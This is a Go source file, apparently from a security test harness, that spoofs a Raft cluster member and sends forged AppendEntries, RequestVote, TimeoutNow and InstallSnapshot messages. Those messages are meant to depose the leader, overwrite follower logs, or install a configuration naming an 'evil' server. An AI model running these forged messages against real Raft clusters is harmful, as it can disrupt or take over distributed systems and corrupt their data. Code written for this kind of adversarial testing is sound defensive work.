package evil

import (
	"bytes"
	"context"
	"encoding/hex"
	"fmt"
	"net"
	"time"

	"github.com/hashicorp/go-hclog"
	"github.com/hashicorp/raft"
)

// callTimeout bounds one message of Raft.
const callTimeout = 2 * time.Second

// Raft is a Raft server of an attacker. It calls itself what it likes.
type Raft struct {
	*raft.NetworkTransport

	Header raft.RPCHeader
}

// Raft returns a Raft server that sends messages to a member in the name of a server.
func (a *Attacker) Raft(ctx context.Context, to Target, called string) Raft {
	trans := raft.NewNetworkTransportWithConfig(&raft.NetworkTransportConfig{
		Logger: hclog.NewNullLogger(), Stream: &stream{a: a, ctx: ctx, to: to, done: make(chan struct{})}, MaxPool: 1,
		MaxRPCsInFlight: 1, Timeout: callTimeout,
	})
	return Raft{trans, raft.RPCHeader{ProtocolVersion: 3, ID: []byte(called), Addr: []byte(called + "@evil:7947")}}
}

// stream opens Raft streams to one member.
type stream struct {
	a    *Attacker
	ctx  context.Context
	to   Target
	done chan struct{}
}

// Accept implements raft.StreamLayer: none is accepted.
func (s *stream) Accept() (net.Conn, error) {
	<-s.done
	return nil, net.ErrClosed
}

// Addr implements raft.StreamLayer.
func (*stream) Addr() net.Addr { return &net.TCPAddr{} }

// Close implements raft.StreamLayer.
func (s *stream) Close() error {
	close(s.done)
	return nil
}

// Dial implements raft.StreamLayer. A stream opens with a preamble: the grid, and the server
// that it is for.
func (s *stream) Dial(raft.ServerAddress, time.Duration) (net.Conn, error) {
	ctx, cancel := context.WithTimeout(s.ctx, callTimeout)
	defer cancel()
	preamble, err := hex.AppendDecode([]byte("SNOW\x21"), []byte(s.to.Grid))
	if err != nil {
		return nil, err
	}
	conn, err := s.a.Connect(ctx, s.to.Raft)
	if err != nil {
		return nil, err
	}
	preamble = append(append(preamble, byte(len(s.to.Server))), s.to.Server...)
	if _, err := conn.Write(preamble); err != nil {
		_ = conn.Close()
		return nil, fmt.Errorf("%w: %w", ErrUnwelcome, err)
	}
	return conn, nil
}

// Message is a message of Raft.
type Message struct {
	Name string
	Send func(r Raft, term uint64) error
}

// Messages returns those that would end the lead, or replace a follower's log; snapshot is the
// content of one.
func Messages(snapshot []byte) []Message {
	return []Message{
		{"AppendEntries", func(r Raft, term uint64) error {
			in := raft.AppendEntriesRequest{RPCHeader: r.Header, Term: term, PrevLogEntry: 1, PrevLogTerm: 1}
			return r.AppendEntries("", "", &in, &raft.AppendEntriesResponse{})
		}},
		{"AppendEntries of an unknown type", func(r Raft, term uint64) error {
			in := raft.AppendEntriesRequest{
				RPCHeader: r.Header, Term: term, Entries: []*raft.Log{{Index: 1000, Term: 3, Type: 77}}, LeaderCommitIndex: 1 << 31,
			}
			return r.AppendEntries("", "", &in, &raft.AppendEntriesResponse{})
		}},
		{"RequestVote", func(r Raft, term uint64) error {
			in := raft.RequestVoteRequest{RPCHeader: r.Header, Term: term, LastLogIndex: 1 << 40, LastLogTerm: term,
				LeadershipTransfer: true}
			return r.RequestVote("", "", &in, &raft.RequestVoteResponse{})
		}},
		{"RequestPreVote", func(r Raft, term uint64) error {
			in := raft.RequestPreVoteRequest{RPCHeader: r.Header, Term: term, LastLogIndex: 1 << 40, LastLogTerm: term}
			return r.RequestPreVote("", "", &in, &raft.RequestPreVoteResponse{})
		}},
		{"TimeoutNow", func(r Raft, _ uint64) error {
			return r.TimeoutNow("", "", &raft.TimeoutNowRequest{RPCHeader: r.Header}, &raft.TimeoutNowResponse{})
		}},
		{"InstallSnapshot", func(r Raft, term uint64) error {
			in := raft.InstallSnapshotRequest{
				RPCHeader: r.Header, SnapshotVersion: 1, Term: term, LastLogIndex: 1 << 40, LastLogTerm: term,
				Size: int64(len(snapshot)),
				Configuration: raft.EncodeConfiguration(raft.Configuration{Servers: []raft.Server{{ID: "evil",
					Address: "evil@evil:7947"}}}),
			}
			return r.InstallSnapshot("", "", &in, &raft.InstallSnapshotResponse{}, bytes.NewReader(snapshot))
		}},
	}
}
